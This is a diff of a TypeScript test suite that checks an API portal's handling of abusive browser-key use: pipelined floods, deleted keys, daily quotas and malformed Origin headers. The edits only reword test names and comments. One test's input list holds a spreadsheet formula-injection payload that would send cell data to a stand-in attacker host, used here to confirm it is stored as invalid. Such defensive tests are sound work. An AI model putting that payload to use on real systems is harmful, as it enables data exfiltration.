@@ -8,7 +8,7 @@ import { until } from '../testing/until.js';
 
 const site = 'https://shop.example.com';
 
-/** Sends so many calls on one connection, without waiting, and answers how many were answered with `status`. */
+/** Sends so many calls on one connection, without waiting, and returns how many got `status`. */
 function pipelined(port: number, key: string, count: number, status = 403): Promise<number> {
   return new Promise((resolve, reject) => {
     const socket = connect(port, '127.0.0.1');
@@ -31,7 +31,7 @@ function pipelined(port: number, key: string, count: number, status = 403): Prom
   });
 }
 
-describe('a browser key in the hands of a stranger', () => {
+describe('a browser key in the hands of an attacker', () => {
   let portal: TestApp;
   beforeAll(async () => {
     portal = await startTestApp({ RATE_LIMIT_PER_KEY: '100000', RATE_LIMIT_PER_ADDRESS: '100000' });
@@ -62,7 +62,7 @@ describe('a browser key in the hands of a stranger', () => {
     expect(stored.origins).toBeLessThan(1_000);
   }, 30_000);
 
-  test('5,100 calls with a deleted key, from any origin and to any address, make few rows and all are counted', async () => {
+  test('5,100 calls with a deleted key, from any origin and to any path, make few rows and all are counted', async () => {
     const { key, keyId, userId } = await seedKey(portal, { urls: [site] });
     await portal.db.query('update api_keys set is_active = false where id = $1', [keyId]);
     const startedAt = Date.now();
@@ -88,7 +88,7 @@ describe('a browser key in the hands of a stranger', () => {
     expect(stored.rows).toBeLessThanOrEqual(limits.refusedRowsPerOwner * 2 * seconds);
   }, 30_000);
 
-  test('an Origin header that is no origin is stored as the word invalid, whatever it holds', async () => {
+  test('an Origin header that is not an origin is stored as the word invalid, whatever it contains', async () => {
     const { key, userId } = await seedKey(portal, { isSaved: true });
     for (const origin of [
       '=HYPERLINK("https://evil.example/?"&A1)',
@@ -152,7 +152,7 @@ describe('an owner with a daily quota', () => {
     expect(metrics.body.totals).toMatchObject({ calls: 45, errors: 25, blocked: 0 });
   });
 
-  test("another owner's calls are answered, and the other's figures show nothing of it", async () => {
+  test("another owner's calls are answered, and that owner's figures show nothing of it", async () => {
     const spender = await seedKey(portal);
     for (let place = 0; place < quota; place++) await call(spender.key);
     expect((await call(spender.key)).status).toBe(429);
@@ -163,7 +163,7 @@ describe('an owner with a daily quota', () => {
     expect(metrics.body.today).toEqual({ calls: 1, quota });
   });
 
-  test('blocked calls, which a stranger can make with the key of a page, use none of it up', async () => {
+  test('blocked calls, which anyone can make with the key of a page, do not count against it', async () => {
     const user = await signUp(portal);
     const { key } = await seedKey(portal, { userId: user.userId, urls: [site] });
     for (let place = 0; place < 2 * quota; place++) {
@@ -174,7 +174,7 @@ describe('an owner with a daily quota', () => {
     expect(metrics.body.today).toEqual({ calls: 1, quota });
   });
 
-  test('another instance refuses, too, once it has stored a call of that owner', async () => {
+  test('another instance also refuses calls once it has stored a call of that owner', async () => {
     const { key } = await seedKey(portal);
     for (let place = 0; place < quota; place++) await call(key);
     const another = await startAnother(portal);
